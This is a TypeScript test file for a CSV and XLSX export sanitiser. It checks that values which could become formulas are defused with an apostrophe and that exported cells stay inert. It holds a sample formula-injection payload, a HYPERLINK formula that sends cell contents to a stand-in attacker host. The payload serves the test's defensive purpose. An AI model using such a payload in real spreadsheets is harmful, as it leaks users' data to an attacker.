import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { FIGURE_COLUMNS, toCsv, type PublishedFigureRow } from "@/lib/data/public-figures";
import { IMPORT_COLUMNS } from "@/lib/import/columns";
import { buildCsvTemplate, buildXlsxTemplate, type TemplateRow } from "@/lib/import/template";
import { csvDocument, csvField, defuseFormula } from "./csv";

const ATTACK = '=HYPERLINK("http://evil.example/?x="&B2,"Xem chi tiết")';

describe("defuseFormula", () => {
  it("puts an apostrophe before what a spreadsheet would run", () => {
    for (const text of [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1"]) expect(defuseFormula(text)).toBe(`'${text}`);
  });
  it("leaves text and plain numbers alone, negative ones too", () => {
    for (const text of ["Tỷ lệ 95%", "1512", "-3,5", "+2.75", "-1e3", "", "a=b"]) expect(defuseFormula(text)).toBe(text);
  });
});

describe("csvField and csvDocument", () => {
  it("quotes what must be quoted, after defusing", () => {
    expect(csvField(ATTACK)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&B2,""Xem chi tiết"")"`);
    expect(csvField("a;b")).toBe('"a;b"');
    expect(csvField(" lề ")).toBe('" lề "');
    expect(csvField(null)).toBe("");
    expect(csvField(-5)).toBe("-5");
  });
  it("writes a BOM, the header and CRLF lines (LF on request)", () => {
    expect(csvDocument(["a", "b"], [["=1", 2]])).toBe("\uFEFFa,b\r\n'=1,2\r\n");
    expect(csvDocument(["a"], [["x"]], { eol: "\n", bom: false })).toBe("a\nx\n");
  });
});

const templateRow = (comment: string): TemplateRow =>
  Object.fromEntries(IMPORT_COLUMNS.map((c) => [c.key, c.key === "comment" ? comment : c.numeric ? 1 : "x"])) as TemplateRow;

describe("every export writes user text inert", () => {
  it("the open-data figures CSV (and the bulk download)", () => {
    const row = Object.fromEntries(FIGURE_COLUMNS.map((c) => [c.name, null])) as unknown as PublishedFigureRow;
    const csv = toCsv([{ ...row, indicator_name_vi: "=1+1", unit_name: ATTACK, numerator: "-3" }]);
    expect(csv).toContain(",'=1+1,");
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).toContain(",-3,");
  });

  it("the import template, as CSV and as XLSX", async () => {
    expect(IMPORT_COLUMNS.some((c) => c.key === "comment")).toBe(true);
    const data = { periodKey: "2026-Q4", periodLabel: "Quý IV/2026", generatedAt: new Date("2026-12-03T00:00:00Z"), actorName: "=cmd", rows: [templateRow(ATTACK)] };
    const csv = buildCsvTemplate(data);
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);

    // XLSX: a string cell is a shared string, never a formula, whatever it starts with.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await buildXlsxTemplate(data)) as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((r) => r.eachCell((c) => cells.push(c))));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.some((c) => c.value === ATTACK)).toBe(true);
  });
});
